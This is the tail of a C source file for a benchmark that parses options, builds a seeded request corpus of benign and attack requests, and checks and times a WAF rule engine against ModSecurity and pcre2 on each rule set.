		{ "smoke", no_argument, NULL, O_SMOKE },
		{ "dump-set", required_argument, NULL, O_DUMP },
		{ "cg-child", required_argument, NULL, O_CHILD },
		{ "help", no_argument, NULL, O_HELP },
		{ 0 },
	};
	bool req_given = false;
	int opt;

	while ((opt = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		int rc = 0;

		switch (opt) {
		case O_REQ:
			rc = bench_parse_ulong("--requests", optarg, 1, 1000000,
					       &o->requests);
			req_given = true;
			break;
		case O_SEED:
			rc = bench_parse_ulong("--seed", optarg, 0, ~0ul,
					       &o->seed);
			break;
		case O_PCT:
			rc = bench_parse_ulong("--attack-pct", optarg, 0, 100,
					       &o->attack_pct);
			break;
		case O_SET:
			o->sets[S_DEFAULT] = !strcmp(optarg, "default") ||
					     !strcmp(optarg, "all");
			o->sets[S_RE300] = !strcmp(optarg, "re300") ||
					   !strcmp(optarg, "all");
			if (!o->sets[S_DEFAULT] && !o->sets[S_RE300]) {
				fprintf(stderr, "Error: no set '%s'\n", optarg);
				rc = -EINVAL;
			}
			break;
		case O_DEFSET:
			o->default_set = optarg;
			break;
		case O_ROUNDS:
			rc = bench_parse_ulong("--rounds", optarg, 1,
					       BENCH_MAX_SAMPLES, &o->rounds);
			break;
		case O_SAMPLE:
			rc = bench_parse_ulong("--sample-ms", optarg, 1, 60000,
					       &o->sample_ms);
			break;
		case O_NOMSC:
			o->modsec = false;
			break;
		case O_NOMEMO:
			o->memo = false;
			break;
		case O_CG:
			o->callgrind = true;
			break;
		case O_CGREQ:
			rc = bench_parse_ulong("--cg-requests", optarg, 1,
					       100000, &o->cg_requests);
			break;
		case O_VG:
			o->valgrind = optarg;
			break;
		case O_SMOKE:
			o->smoke = true;
			break;
		case O_DUMP:
			if (strcmp(optarg, "re300")) {
				fprintf(stderr,
					"Error: only re300 is generated\n");
				rc = -EINVAL;
			}
			*dump = true;
			break;
		case O_CHILD:
			for (int k = 0; k < C_COUNT; k++)
				if (!strcmp(optarg, cname[k]))
					o->cg_child = k;
			if (o->cg_child < 0) {
				fprintf(stderr, "Error: no contender '%s'\n",
					optarg);
				rc = -EINVAL;
			}
			break;
		case O_HELP:
			usage(stdout);
			exit(0);
		default:
			usage(stderr);
			return -EINVAL;
		}
		if (rc)
			return rc;
	}
	if (optind < argc) {
		usage(stderr);
		return -EINVAL;
	}
	if (o->smoke && !req_given)
		o->requests = 150;
	return 0;
}

static int dump_re300(void)
{
	struct re300_info ri;
	char *text;
	size_t len;
	int rc = re300_generate(&text, &len, &ri);

	if (rc) {
		fprintf(stderr, "Error: %s\n", strerror(-rc));
		return 1;
	}
	fwrite(text, 1, len, stdout);
	free(text);
	return 0;
}

static void print_corpus(const struct rcorpus *c, const struct opts *o)
{
	size_t attacks = 0;

	for (int k = RK_FIRST_ATTACK; k < RK_KINDS; k++)
		attacks += c->n_kind[k];
	printf("corpus: %zu requests (seed %lu), %zu benign, %zu attacks; "
	       "%llu bytes on the wire (%.0f a request), %llu body bytes, "
	       "%.1f values a request; %zu flagged with an anomaly\n",
	       c->n, o->seed, c->n - attacks, attacks,
	       (unsigned long long)c->wire_bytes,
	       (double)c->wire_bytes / (double)c->n,
	       (unsigned long long)c->body_bytes,
	       (double)c->n_values / (double)c->n, c->anomalies);
	printf("  by kind:");
	for (int k = 0; k < RK_KINDS; k++)
		printf(" %s %zu", rq_kind_name(k), c->n_kind[k]);
	printf("\n");
}

int main(int argc, char **argv)
{
	struct opts o = {
		.requests = 2000,
		.seed = 42,
		.attack_pct = 10,
		.rounds = 5,
		.sample_ms = 300,
		.cg_requests = 200,
		.sets = { true, true },
		.modsec = true,
		.memo = true,
		.cg_child = -1,
		.default_set = ENF_BENCH_SOURCE_DIR "/rules/sets/default.conf",
		.valgrind = "valgrind",
	};
	struct obo_opts oo;
	struct rcorpus c;
	const char *err;
	bool dump = false;
	int rc, failed = 0;

	if (parse_args(argc, argv, &o, &dump))
		return 2;
	if (dump)
		return dump_re300();
	if (o.callgrind && o.cg_child < 0)
		return callgrind_parent(&o);

	rc = rcorpus_make(&c, o.requests, o.seed, (unsigned int)o.attack_pct,
			  &err);
	if (rc) {
		fprintf(stderr, "Error: corpus: %s\n", err);
		return 1;
	}
	rc = probe_decoding(&oo);
	if (rc) {
		fprintf(stderr, "Error: probing the engine: %s\n",
			strerror(-rc));
		rcorpus_free(&c);
		return 1;
	}
	if (o.cg_child >= 0) {
		rc = callgrind_child(&o, &c, &oo);
		rcorpus_free(&c);
		return rc;
	}
	print_corpus(&c, &o);
	printf("REQUEST_URI reads the target %s, REQUEST_FILENAME the path %s "
	       "(asked of the engine)\n",
	       oo.uri_decoded ? "decoded" : "as received",
	       oo.filename_decoded ? "decoded" : "as received");
	printf("modsec: %s\n", o.modsec ? msc_bench_version() : "left out");
	if (o.smoke) {
		rc = smoke(&o, &c, &oo);
		rcorpus_free(&c);
		return rc;
	}
	for (int s = 0; s < S_COUNT; s++) {
		struct verdicts v;
		struct loaded l;

		if (!o.sets[s])
			continue;
		printf("\n");
		rc = load_set(s, &o, &oo, &l, false);
		if (!rc)
			rc = check_pass(&c, &l, &v, false);
		if (!rc) {
			print_verdicts(&c, &l, &v);
			if (v.differ) {
				printf("  enforcer and pcre2 disagree: not "
				       "timed\n");
				failed = 1;
			} else {
				rc = time_set(&c, &l, &o);
			}
		}
		if (rc) {
			fprintf(stderr, "Error: set %s: %s\n", sname[s],
				rc < 0 ? strerror(-rc) : "failed");
			failed = 1;
		}
		unload_set(&l);
	}
	rcorpus_free(&c);
	return failed;
}
